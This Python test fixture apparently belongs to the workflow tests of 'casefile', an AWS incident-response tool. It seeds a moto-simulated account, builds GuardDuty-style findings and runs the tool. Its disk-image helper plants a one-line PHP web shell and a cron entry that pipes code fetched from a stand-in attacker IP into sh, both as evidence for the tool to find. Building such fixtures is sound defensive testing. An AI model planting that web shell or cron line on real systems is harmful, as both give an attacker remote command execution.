"""Shared fixture of the workflow tests: seeds moto with a small account and runs casefile.

Used by the test_*.py scripts of tests/workflow (each runs under tests/lib/with-moto, so moto is
fresh and AWS_ENDPOINT_URL points at it). The account: a VPC 10.0.0.0/16 with a subnet, its network
ACL (an allow-all rule 100 as AWS creates it), an instance with two volumes in an Auto Scaling group
and an ALB target group, an S3 evidence bucket, a verified SES sender.
"""
import json
import os
import subprocess
import sys
import tempfile
import urllib.request

import boto3

REGION = os.environ.get("AWS_REGION", "us-east-1")
ATTACKER = "198.51.100.23"
ATTACKER6 = "2001:db8:bad::7"
BUCKET = "cf-evidence"
SENDER = "casefile@example.com"
RESPONDER = "soc@example.com"


def client(name):
    return boto3.client(name, region_name=REGION)


def casefile_bin():
    return os.path.join(os.environ["CF_BIN_DIR"], "casefile")


def seed(protected=False, asg=True, tg=True, nacl_fill=0, extra_tags=None):
    client("s3").create_bucket(Bucket=BUCKET)
    client("ses").verify_email_identity(EmailAddress=SENDER)
    return seed_more(None, 0, protected=protected, asg=asg, tg=tg, nacl_fill=nacl_fill,
                     extra_tags=extra_tags)


def seed_more(base, n, protected=False, asg=True, tg=True, nacl_fill=0, extra_tags=None):
    """One more VPC + subnet + ACL + instance (+ ASG, target group) in the same moto."""
    ec2 = client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24",
                               AvailabilityZone=REGION + "a")["Subnet"]["SubnetId"]
    acl = ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"]
    for egress in (False, True):
        ec2.create_network_acl_entry(NetworkAclId=acl, RuleNumber=100, Protocol="-1",
                                     RuleAction="allow", Egress=egress, CidrBlock="0.0.0.0/0")
    assoc = [a for a in ec2.describe_network_acls(
        Filters=[{"Name": "association.subnet-id", "Values": [subnet]}])["NetworkAcls"][0]
        ["Associations"] if a["SubnetId"] == subnet][0]["NetworkAclAssociationId"]
    ec2.replace_network_acl_association(AssociationId=assoc, NetworkAclId=acl)
    for i in range(nacl_fill):
        for egress in (False, True):
            ec2.create_network_acl_entry(NetworkAclId=acl, RuleNumber=200 + i, Protocol="6",
                                         RuleAction="allow", Egress=egress,
                                         CidrBlock="192.0.2.%d/32" % (i + 1),
                                         PortRange={"From": 443, "To": 443})
    web_sg = ec2.create_security_group(GroupName="web", Description="web",
                                       VpcId=vpc)["GroupId"]
    ami = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    tags = [{"Key": "Name", "Value": "web-%d" % n}]
    if protected:
        tags.append({"Key": "casefile:protected", "Value": "true"})
    tags += extra_tags or []
    inst = ec2.run_instances(
        ImageId=ami, MinCount=1, MaxCount=1, InstanceType="t3.micro", SubnetId=subnet,
        SecurityGroupIds=[web_sg],
        BlockDeviceMappings=[{"DeviceName": "/dev/sdf", "Ebs": {"VolumeSize": 8}}],
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )["Instances"][0]["InstanceId"]
    desc = ec2.describe_instances(InstanceIds=[inst])["Reservations"][0]["Instances"][0]
    out = {"vpc": vpc, "subnet": subnet, "acl": acl, "instance": inst, "web_sg": web_sg,
           "volumes": [m["Ebs"]["VolumeId"] for m in desc["BlockDeviceMappings"]]}
    if tg:
        elb = client("elbv2")
        tga = elb.create_target_group(Name="web-%d" % n, Protocol="HTTP", Port=80, VpcId=vpc,
                                      TargetType="instance")["TargetGroups"][0]["TargetGroupArn"]
        elb.register_targets(TargetGroupArn=tga, Targets=[{"Id": inst, "Port": 80}])
        out["tg"] = tga
    if asg:
        au = client("autoscaling")
        au.create_launch_configuration(LaunchConfigurationName="lc-%d" % n, ImageId=ami,
                                       InstanceType="t3.micro")
        au.create_auto_scaling_group(AutoScalingGroupName="web-asg-%d" % n,
                                     LaunchConfigurationName="lc-%d" % n,
                                     MinSize=0, MaxSize=2, DesiredCapacity=0,
                                     VPCZoneIdentifier=subnet)
        au.attach_instances(InstanceIds=[inst], AutoScalingGroupName="web-asg-%d" % n)
        out["asg"] = "web-asg-%d" % n
    return out


def event(instance, finding_id="fd-1", ips=(ATTACKER,), shape="eventbridge"):
    finding = {
        "schemaVersion": "2.0", "accountId": "123456789012", "region": REGION,
        "id": finding_id, "type": "UnauthorizedAccess:EC2/SSHBruteForce",
        "severity": 8, "createdAt": "2026-11-27T20:00:00.000Z",
        "resource": {"resourceType": "Instance", "instanceDetails": {
            "instanceId": instance, "availabilityZone": REGION + "a"}},
        "service": {"eventFirstSeen": "2026-11-27T19:55:00.000Z",
                    "eventLastSeen": "2026-11-27T20:00:00.000Z",
                    "action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                        "remoteIpDetails": {"ipAddressV4": ips[0]}}}},
    }
    if len(ips) > 1:
        finding["service"]["action"]["portProbeAction"] = {"portProbeDetails": [
            {"remoteIpDetails": {"ipAddressV6" if ":" in ip else "ipAddressV4": ip}}
            for ip in ips[1:]]}
    if shape == "finding":
        return finding
    return {"version": "0", "id": "ev-1", "detail-type": "GuardDuty Finding",
            "source": "aws.guardduty", "region": REGION, "detail": finding}


def config(tmp, **over):
    cfg = {"case_root": os.path.join(tmp, "cases"), "evidence_bucket": BUCKET,
           "sender": SENDER, "recipients": RESPONDER, "volatile_timeout_s": 2,
           "poll_interval_ms": 100, "retry_base_ms": 10, "snapshot_timeout_s": 30}
    cfg.update(over)
    path = os.path.join(tmp, "casefile.json")
    with open(path, "w") as f:
        json.dump(cfg, f)
    return path


def run(args, check=None, env=None, input=None):
    e = dict(os.environ)
    e.update(env or {})
    p = subprocess.run([casefile_bin()] + args, capture_output=True, text=True, env=e,
                       input=input, timeout=240)
    sys.stderr.write("$ casefile %s -> %d\n%s%s" % (" ".join(args), p.returncode, p.stdout,
                                                      p.stderr))
    if check is not None and p.returncode != check:
        raise AssertionError("casefile %s exited %d, expected %d" % (args, p.returncode, check))
    return p


def write_event(tmp, ev, name="event.json"):
    path = os.path.join(tmp, name)
    with open(path, "w") as f:
        json.dump(ev, f)
    return path


def state_dump(info):
    """Everything the workflow may change, for before/after comparisons."""
    ec2 = client("ec2")
    inst = info["instance"]
    dump = {
        "acls": ec2.describe_network_acls()["NetworkAcls"],
        "sgs": ec2.describe_security_groups()["SecurityGroups"],
        "enis": [(n["NetworkInterfaceId"], sorted(g["GroupId"] for g in n["Groups"]))
                 for n in ec2.describe_network_interfaces()["NetworkInterfaces"]],
        "snapshots": ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"],
        "volumes": ec2.describe_volumes()["Volumes"],
        "instances": [(i["InstanceId"], i["State"]["Name"], i.get("Tags"))
                      for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]],
        "term": ec2.describe_instance_attribute(InstanceId=inst,
                                                Attribute="disableApiTermination")
        ["DisableApiTermination"],
        "objects": sorted(o["Key"] for o in client("s3").list_objects_v2(Bucket=BUCKET)
                          .get("Contents", [])),
        "commands": client("ssm").list_commands()["Commands"],
    }
    if "asg" in info:
        dump["asg"] = client("autoscaling").describe_auto_scaling_instances()[
            "AutoScalingInstances"]
    if "tg" in info:
        dump["tg"] = client("elbv2").describe_target_health(TargetGroupArn=info["tg"])[
            "TargetHealthDescriptions"]
    return json.loads(json.dumps(dump, default=str, sort_keys=True))


def tmpdir():
    return tempfile.mkdtemp(prefix="cf-wf-")


class SsmExecutor:
    """Plays the SSM agent: runs every AWS-RunShellScript command sent to moto with bash on this
    machine (moto records commands but never runs them)."""

    def __init__(self, disk_image=None):
        import threading
        self.disk_image = disk_image
        self.seen = set()
        self.stop = threading.Event()
        self.results = []
        self.thread = threading.Thread(target=self.loop, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(timeout=30)

    def loop(self):
        import time
        ssm = client("ssm")
        while not self.stop.is_set():
            try:
                cmds = ssm.list_commands()["Commands"]
            except Exception:
                cmds = []
            for c in cmds:
                if c["CommandId"] in self.seen:
                    continue
                self.seen.add(c["CommandId"])
                script = "\n".join(c["Parameters"]["commands"])
                env = dict(os.environ)
                if self.disk_image:
                    env.update(self.worker_env(c["InstanceIds"][0]))
                p = subprocess.run(["bash", "-c", script], capture_output=True, text=True,
                                   timeout=300, env=env)
                self.results.append((c["CommandId"], p.returncode, p.stderr[-2000:]))
                if p.returncode:
                    sys.stderr.write("executor: command %s failed %d: %s\n" %
                                     (c["CommandId"], p.returncode, p.stderr[-2000:]))
            time.sleep(0.1)


    def worker_env(self, instance):
        """A forensic worker: its attached volumes appear under CASEFILE_SIM_ROOT as the
        device names (sdX, xvdX, the Nitro by-id link), all backed by the disk image."""
        ec2 = client("ec2")
        vols = ec2.describe_volumes(Filters=[{"Name": "attachment.instance-id",
                                              "Values": [instance]}])["Volumes"]
        root = tempfile.mkdtemp(prefix="cf-sim-")
        os.makedirs(os.path.join(root, "dev", "disk", "by-id"))
        for v in vols:
            for a in v["Attachments"]:
                dev = a["Device"]
                if not dev.startswith("/dev/sd") or dev == "/dev/sda1":
                    continue
                os.symlink(self.disk_image, root + dev)
                os.symlink(self.disk_image, root + dev.replace("/dev/sd", "/dev/xvd"))
                os.symlink(self.disk_image, os.path.join(
                    root, "dev", "disk", "by-id",
                    "nvme-Amazon_Elastic_Block_Store_vol" + v["VolumeId"][4:]))
        return {"CASEFILE_SIM_ROOT": root,
                "PATH": os.environ["CF_BIN_DIR"] + ":" + os.environ.get("PATH", "")}


def make_disk_image(tmp):
    """A small ext4 image with a web shell and a cron entry (mke2fs -d, no root needed)."""
    src = os.path.join(tmp, "rootfs")
    for d in ("etc/cron.d", "var/www/html/uploads", "var/log/nginx", "root"):
        os.makedirs(os.path.join(src, d), exist_ok=True)
    with open(os.path.join(src, "var/www/html/uploads/shell.php"), "w") as f:
        f.write("<?php system($_GET['c']); ?>\n")
    with open(os.path.join(src, "etc/cron.d/update"), "w") as f:
        f.write("* * * * * root curl -s http://198.51.100.23/x | sh\n")
    with open(os.path.join(src, "var/log/nginx/access.log"), "w") as f:
        f.write('198.51.100.23 - - [27/Nov/2026:19:56:00 +0000] "GET /uploads/shell.php?c=id '
                'HTTP/1.1" 200 12 "-" "curl/8.0"\n')
    img = os.path.join(tmp, "disk.img")
    subprocess.run(["mke2fs", "-q", "-t", "ext4", "-d", src, img, "16M"], check=True)
    return img


def agent_dir():
    for d in (os.environ.get("CF_BIN_DIR"), os.environ.get("CF_RELEASE_BIN_DIR")):
        if d and os.path.exists(os.path.join(d, "casefile-agent")):
            return d
    raise AssertionError("casefile-agent is not built (CF_BIN_DIR / CF_RELEASE_BIN_DIR)")


def case_dir(tmp, instance_case_prefix=None):
    root = os.path.join(tmp, "cases")
    names = [n for n in os.listdir(root) if not n.endswith("-dry-run")]
    if instance_case_prefix:
        names = [n for n in names if n.startswith(instance_case_prefix)]
    assert len(names) == 1, names
    return os.path.join(root, names[0])


def status(tmp, case):
    p = run(["status", case, "--json"], check=0)
    return json.loads(p.stdout)
